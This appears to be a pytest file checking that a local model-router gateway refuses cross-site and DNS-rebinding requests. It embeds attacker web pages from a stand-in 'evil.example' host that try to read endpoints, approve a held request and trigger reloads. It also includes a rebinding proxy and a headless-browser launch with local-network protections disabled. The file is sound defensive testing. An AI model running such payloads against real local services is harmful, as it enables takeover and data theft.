"""Pages of a browser: they reach loopback, and nothing on it that is the gateway's."""

from __future__ import annotations

import contextlib
import json
import os
import queue
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from model_router.config.proxy import ApprovalMode, ApprovalsConfig
from model_router.server.approvals import Standing
from model_router.server.happenings import ReloadEvent
from tests.faults import servers
from tests.faults.gateways import Running, config_for, serving
from tests.faults.servers import FaultServer
from tests.support.gateway_process import wait_for

CHAT = "/v1/chat/completions"
BODY = json.dumps({"messages": [{"role": "user", "content": "rewrite this text"}]})
FOREIGN = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}
REBOUND = {"Host": "evil.example:8082", "Origin": "http://evil.example:8082", "Sec-Fetch-Site": "same-origin"}
"""After DNS rebinding the browser takes the gateway for the page's own site."""


@pytest.fixture
def backend() -> Iterator[FaultServer]:
    with servers.running(servers.good) as one:
        yield one


@pytest.fixture
def running(tmp_path: Path, home: Path, backend: FaultServer) -> Iterator[Running]:
    with serving(config_for({"one": backend.base_url}, tmp_path)) as gateway:
        yield gateway


def send(running: Running, method: str, path: str, headers: dict[str, str], body: str = "") -> tuple[int, str]:
    """A request with exactly these headers, as bytes on a socket; its status, and the head of the answer."""
    lines = {"Host": "127.0.0.1", **headers, "Content-Length": str(len(body)), "Connection": "close"}
    head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
    with socket.create_connection(("127.0.0.1", int(running.root.rpartition(":")[2])), timeout=5) as line:
        line.sendall(f"{method} {path} HTTP/1.1\r\n{head}\r\n{body}".encode())
        answer = b""
        while piece := line.recv(65_536):
            answer += piece
    text = answer.decode().partition("\r\n\r\n")[0]
    return int(text.split(" ")[1]), text.lower()


@pytest.mark.parametrize(
    "headers",
    [
        {**FOREIGN, "Content-Type": "text/plain", "Sec-Fetch-Mode": "no-cors"},
        {**FOREIGN, "Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Mode": "navigate"},
        {**FOREIGN, "Content-Type": "application/json", "Sec-Fetch-Mode": "cors"},
        {"Origin": "null", "Content-Type": "text/plain"},
        {"Sec-Fetch-Site": "cross-site", "Content-Type": "text/plain"},
        {**REBOUND, "Content-Type": "application/json"},
        {"Host": "evil.example", "Content-Type": "application/json"},
    ],
    ids=["fetch", "form", "json", "sandbox", "no-origin", "rebound", "rebound-get"],
)
def test_a_page_of_another_site_is_refused(running: Running, backend: FaultServer, headers: dict[str, str]) -> None:
    for path in (CHAT, "/v1/messages", "/v1/responses", "/v1/embeddings", "/v1/completions"):
        status, head = send(running, "POST", path, headers, BODY)
        assert status == 403, path
        assert "access-control" not in head
    for path in ("/v1/models", "/metrics", "/health", "/control/state"):
        status, head = send(running, "GET", path, headers)
        assert status == 403, path
        assert "access-control" not in head
    assert backend.seen == []


@pytest.mark.parametrize("path", [CHAT, "/v1/messages", "/control/reload", "/health"])
def test_no_preflight_is_ever_granted(running: Running, path: str) -> None:
    asks = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "x-modelrouter-token"}
    for headers in (FOREIGN, {"Origin": "http://localhost:3000", "Sec-Fetch-Site": "same-site"}):
        status, head = send(running, "OPTIONS", path, {**headers, **asks})
        assert status in (403, 405)
        assert "access-control" not in head


def test_what_programs_send_passes(running: Running) -> None:
    """Node's fetch says ``sec-fetch-mode: cors`` and no origin."""
    headers = {"Sec-Fetch-Mode": "cors", "Content-Type": "application/json", "Accept-Language": "*"}
    assert send(running, "POST", CHAT, headers, BODY)[0] == 200


# A real browser

PAGE = """<!doctype html><title>evil</title><iframe name=sink></iframe>
<form id=f method=post enctype=text/plain target=sink action="GATEWAY/v1/chat/completions">
<input name='BODY' value=''></form>
<script>
(async () => {
  const said = [];
  const attempt = async (name, url, options) => {
    try { const r = await fetch(url, options); said.push([name, r.type, r.status, await r.text()]); }
    catch (e) { said.push([name, "blocked", 0, ""]); }
  };
  const chat = {method: "POST", body: JSON.stringify({messages: [{role: "user", content: "rewrite this text"}]})};
  await attempt("plain", "GATEWAY/v1/chat/completions", {...chat, mode: "no-cors"});
  await attempt("json", "GATEWAY/v1/chat/completions", {...chat, headers: {"content-type": "application/json"}});
  await attempt("models", "GATEWAY/v1/models", {});
  await attempt("health", "GATEWAY/health", {});
  await attempt("state", "GATEWAY/control/state", {headers: {"x-modelrouter-token": "TOKEN"}});
  await attempt("reload", "GATEWAY/control/reload", {method: "POST", mode: "no-cors", body: "{}"});
  await attempt("rebound", "REBOUND/v1/models", {});
  await attempt("approve", "GATEWAY/control/approvals/HELD/approve", {method: "POST", mode: "no-cors", body: "{}"});
  navigator.sendBeacon("GATEWAY/control/approvals/HELD/approve", "{}");
  document.getElementById("f").submit();
  await new Promise(done => setTimeout(done, 300));
  await fetch("/report", {method: "POST", body: JSON.stringify(said)});
  location = "OWN/";
})();
</script>"""

REBOUND_PAGE = """<!doctype html><title>rebound</title>
<script>
(async () => {
  const said = [];
  const json = {"content-type": "application/json", "x-modelrouter-token": "TOKEN"};
  const attempt = async (name, url, options) => {
    try { const r = await fetch(url, options); said.push([name, r.type, r.status, await r.text()]); }
    catch (e) { said.push([name, "blocked", 0, ""]); }
  };
  const chat = JSON.stringify({messages: [{role: "user", content: "rewrite this text"}]});
  await attempt("chat", "/v1/chat/completions", {method: "POST", headers: json, body: chat});
  for (const path of ["/v1/models", "/health", "/metrics", "/control/state", "/control/approvals"])
    await attempt(path, path, {headers: json});
  await attempt("approve", "/control/approvals/HELD/approve", {method: "POST", headers: json, body: "{}"});
  await attempt("navigated", "/v1/models", {headers: {accept: "text/html"}, cache: "no-store"});
  said.push(["followed", "", await new Promise(done => {
    const events = new EventSource("/control/events");
    events.onopen = () => done(200); events.onerror = () => done(403);
  }), ""]);
  said.push(["socket", "", await new Promise(done => {
    const socket = new WebSocket("ws://" + location.host + "/control/events");
    socket.onopen = () => done(101); socket.onerror = () => done(403);
  }), ""]);
  await fetch("/report", {method: "POST", body: JSON.stringify(said)});
})();
</script>"""
"""Of a page whose name led to its own server first and to the gateway from then on: all is of one origin."""


def chromium() -> str:
    """Where a Chromium is; empty when there is none."""
    return os.environ.get("TEST_CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome") or ""


def rebinding(gateway: str, page: str, reports: queue.Queue[Any]) -> type[BaseHTTPRequestHandler]:
    """A server that gives its page, and hands all else on to the gateway byte for byte, as a changed name would."""
    port = int(gateway.rpartition(":")[2])

    class Rebinding(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/":
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())
            else:
                self.hand_on(b"")

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["content-length"]))
            if self.path == "/report":
                reports.put(json.loads(body))
                self.send_response(204)
                self.end_headers()
            else:
                self.hand_on(body)

        def hand_on(self, body: bytes) -> None:
            kept = [(name, value) for name, value in self.headers.items() if name.lower() != "connection"]
            head = "".join(f"{name}: {value}\r\n" for name, value in kept)
            with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
                line.sendall(f"{self.command} {self.path} HTTP/1.1\r\n{head}Connection: close\r\n\r\n".encode() + body)
                while piece := line.recv(65_536):
                    self.wfile.write(piece)
            self.close_connection = True

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    return Rebinding


@contextlib.contextmanager
def web_server(handler: type[BaseHTTPRequestHandler]) -> Iterator[int]:
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        serve = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        serve.start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()
            serve.join()


@pytest.mark.slow
@pytest.mark.skipif(not chromium(), reason="no Chromium here; TEST_CHROMIUM may name one")
def test_a_real_browser_gets_nothing_out_of_it_and_nothing_into_it(
    tmp_path: Path, home: Path, backend: FaultServer
) -> None:
    """A page of ``evil.example``, which knows even the token of the run and what waits; then a page whose own name
    leads to the gateway."""
    hold = ApprovalsConfig(mode=ApprovalMode.HOLD, ttl_seconds=90)
    reports: queue.Queue[Any] = queue.Queue()
    with serving(config_for({"one": backend.base_url}, tmp_path, approvals=hold)) as running:
        line = running.connect("drop the production database")
        held = wait_for(running.gateway.approvals.list, within=5, what="a request that waits")[0].request_id

        def filled(page: str) -> str:
            page = page.replace("GATEWAY", running.root).replace("TOKEN", running.gateway.token)
            return page.replace("HELD", held).replace("BODY", BODY.replace("'", ""))

        with web_server(rebinding(running.root, filled(REBOUND_PAGE), reports)) as own:
            page = filled(PAGE).replace("REBOUND", f"http://rebound.example:{running.root.rpartition(':')[2]}")
            page = page.replace("OWN", f"http://rebound.example:{own}")
            with web_server(rebinding(running.root, page, reports)) as evil, browser(evil, tmp_path):
                first = reports.get(timeout=60)
                second = reports.get(timeout=60)
        (still,) = running.gateway.approvals.list()
        assert still.standing is Standing.WAITING, "a page has decided"
        line.close()
        assert not any(isinstance(one, ReloadEvent) for one in running.gateway.happenings)
    names = {"plain", "json", "models", "health", "state", "reload", "rebound", "approve"}
    assert {name for name, *_ in first} == names
    assert [text for *_, text in first if text] == [], "the page has read something"
    assert all(kind in ("opaque", "blocked") for _, kind, _, _ in first)
    assert len(second) == 10
    assert [one for one in second if one[2] != 403] == [], "a rebound name was served"
    assert not any(b"rewrite" in seen.body for seen in backend.seen)


@contextlib.contextmanager
def browser(port: int, folder: Path) -> Iterator[None]:
    """A Chromium that opens the page of ``evil.example``."""
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--single-process", "--no-zygote", "--no-first-run"]
    rules = "MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1"
    process = subprocess.Popen(
        [
            chromium(),
            *flags,
            f"--user-data-dir={folder / 'profile'}",
            f"--host-resolver-rules={rules}",
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
            "--remote-debugging-port=0",
            f"http://evil.example:{port}/",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        process.terminate()
        process.wait(10)
